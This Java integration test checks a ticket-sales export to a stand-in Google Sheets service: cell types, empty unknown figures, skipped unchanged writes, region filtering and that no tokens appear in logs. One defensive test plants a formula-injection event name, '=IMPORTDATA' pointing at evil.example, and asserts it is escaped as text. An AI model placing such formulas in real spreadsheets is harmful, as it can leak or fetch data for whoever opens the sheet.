package io.vivenuoperator.export;

import static io.vivenuoperator.store.Samples.NOON;
import static io.vivenuoperator.store.Samples.event;
import static io.vivenuoperator.store.Samples.ticket;
import static io.vivenuoperator.store.Samples.type;
import static io.vivenuoperator.store.Samples.typeWithoutCapacity;
import static io.vivenuoperator.store.Samples.wasRead;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import io.vivenuoperator.export.SheetsStage.Ended;
import io.vivenuoperator.export.standin.SheetsStandIn.SharedAs;
import io.vivenuoperator.export.standin.SheetsStandIn.SheetsRequest;
import io.vivenuoperator.export.standin.StandInSheet;
import io.vivenuoperator.export.standin.TestAccount;
import io.vivenuoperator.platform.config.ExitCode;
import io.vivenuoperator.store.TestDatabase;
import io.vivenuoperator.store.event.EventRecord;
import io.vivenuoperator.store.event.EventRepository;
import io.vivenuoperator.store.ledger.LedgerStatus;
import io.vivenuoperator.store.ledger.TicketLedger;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/** From a database to a spreadsheet. */
class SheetsIT {
    private static final int CAPACITY = 7;
    private static final int SOLD = 8;
    private static final int AVAILABLE = 9;
    private static final int PERCENT = 10;
    private static final int COUNTED = 11;

    @RegisterExtension
    final TestDatabase database = TestDatabase.migrated();

    @TempDir
    Path directory;

    private SheetsStage stage;

    @BeforeEach
    void begin() {
        wasRead(database, "dach");
        record(event("dach", "e1", 0, type("a", 200)), event("dach", "open", 0, typeWithoutCapacity("b")));
        sell("e1", "a", 50);
        stage = new SheetsStage(database, directory);
    }

    @AfterEach
    void end() {
        stage.close();
    }

    private void record(EventRecord... events) {
        database.database().inTransaction(tx -> new EventRepository().record(tx, List.of(events), NOON));
    }

    private void sell(String event, String type, int count) {
        var tickets = IntStream.range(0, count)
                .mapToObj(i -> ticket("dach", event + "-t" + i, event, type, LedgerStatus.VALID, 0))
                .toList();
        database.database().inTransaction(tx -> new TicketLedger().record(tx, tickets, NOON.plusSeconds(60)));
    }

    private StandInSheet sheet(String title) {
        return stage.google().spreadsheet().sheet(title);
    }

    private static int rowOf(StandInSheet sheet, String text) {
        return IntStream.range(0, sheet.rowCount())
                .filter(row -> IntStream.range(0, 3)
                        .anyMatch(column -> sheet.cell(row, column)
                                .path("stringValue")
                                .asText()
                                .equals(text)))
                .findFirst()
                .orElseThrow();
    }

    @Test
    void figuresAreNumbersAndTimesAreTimes() {
        // when
        var ended = stage.run();

        // then
        assertThat(ended.code()).isEqualTo(ExitCode.DONE);
        assertThat(ended.reason()).isEqualTo("SheetWritten");
        assertThat(ended.report().path("rows").asInt()).isEqualTo(4);
        assertThat(ended.report().path("export").asText()).isEqualTo("management");
        var events = sheet("Events");
        int row = rowOf(events, "e1");
        assertThat(events.cell(row, CAPACITY).path("numberValue").asInt()).isEqualTo(200);
        assertThat(events.cell(row, SOLD).path("numberValue").asInt()).isEqualTo(50);
        assertThat(events.cell(row, AVAILABLE).path("numberValue").asInt()).isEqualTo(150);
        assertThat(events.cell(row, PERCENT).path("numberValue").asDouble()).isEqualTo(0.25);
        assertThat(events.cell(row, COUNTED).path("stringValue").asText()).isEqualTo("all tickets");
        // 2099-05-17T08:00Z in days since 1899-12-30
        assertThat(events.cell(row, 3).path("numberValue").asDouble()).isCloseTo(72_822 + 8 / 24.0, within(1e-9));
        var types = sheet("Ticket Types");
        assertThat(types.cell(rowOf(types, "a"), 7).path("numberValue").asInt()).isEqualTo(50);
        assertThat(types.cell(rowOf(types, "a"), 5).path("numberValue").asDouble())
                .isEqualTo(59.0);
    }

    @Test
    void whatIsNotKnownIsAnEmptyCellAndSaysSo() {
        // given: a region whose first full reading goes on
        database.execute("UPDATE event SET complete_since = NULL");

        // when
        stage.run();

        // then
        var events = sheet("Events");
        int open = rowOf(events, "open");
        assertThat(List.of(CAPACITY, SOLD, AVAILABLE, PERCENT))
                .allSatisfy(column ->
                        assertThat(events.cell(open, column).isMissingNode()).isTrue());
        assertThat(events.cell(open, COUNTED).path("stringValue").asText()).isEqualTo("not yet");
        int counted = rowOf(events, "e1");
        assertThat(events.cell(counted, SOLD).path("numberValue").asInt()).isEqualTo(50);
        assertThat(events.cell(counted, AVAILABLE).isMissingNode()).isTrue();
        assertThat(events.cell(counted, COUNTED).path("stringValue").asText()).isEqualTo("so far");
    }

    @Test
    void nothingIsWrittenWhenNothingChanged() {
        // given
        stage.run();
        stage.google().forgetRequests();

        // when
        var ended = stage.run();

        // then
        assertThat(ended.reason()).isEqualTo("NothingChanged");
        assertThat(ended.report().path("requests").asInt()).isOne();
        assertThat(stage.google().requests()).extracting(SheetsRequest::action).containsExactly("getByDataFilter");
    }

    @Test
    void aSaleIsThereAfterTheNextRunOfTwoRequests() {
        // given
        stage.run();
        sell("open", "b", 3);

        // when
        var ended = stage.run();

        // then
        assertThat(ended.report().path("requests").asInt()).isEqualTo(2);
        var events = sheet("Events");
        assertThat(events.cell(rowOf(events, "open"), SOLD).path("numberValue").asInt())
                .isEqualTo(3);
    }

    @Test
    void anExportHasTheRowsOfItsRegionsOnly() {
        // given
        wasRead(database, "usa");
        record(event("usa", "e9", 0, type("z", 7)));
        stage.spec("\"regions\":[\"usa\"],\"sheets\":[\"Events\"]");

        // when
        var ended = stage.run();

        // then
        assertThat(ended.report().path("rows").asInt()).isOne();
        assertThat(sheet("Events").lastRow()).isOne();
        assertThat(stage.google().spreadsheet().has("Ticket Types")).isFalse();
    }

    @Test
    void aNameThatLooksLikeAFormulaIsText() {
        // given
        database.execute("UPDATE event SET name = '=IMPORTDATA(\"https://evil.example\")' WHERE event_id = 'e1'");

        // when
        stage.run();

        // then
        var events = sheet("Events");
        assertThat(events.cell(rowOf(events, "e1"), 2).path("stringValue").asText())
                .isEqualTo("'=IMPORTDATA(\"https://evil.example\")");
        assertThat(stage.google().sawAFormula()).isFalse();
        assertThat(stage.run().reason()).isEqualTo("NothingChanged");
    }

    @Test
    void theReportIsTheTerminationMessage() throws IOException {
        // given: as the kubelet makes it
        var message = Files.createFile(directory.resolve("termination"));

        // when
        var ended = stage.run();

        // then
        assertThat(Files.readString(message)).isEqualTo(ended.printed().strip());
    }

    @Test
    void noSecretIsPrintedOrLogged() {
        // given
        stage.google().shareAs(SharedAs.NOBODY);

        // when
        Ended ended = stage.run();

        // then
        assertThat(ended.message()).contains(TestAccount.EMAIL);
        assertThat(ended.printed() + ended.logged()).doesNotContain("PRIVATE", "ya29.", "eyJ", "reader:reader");
    }
}
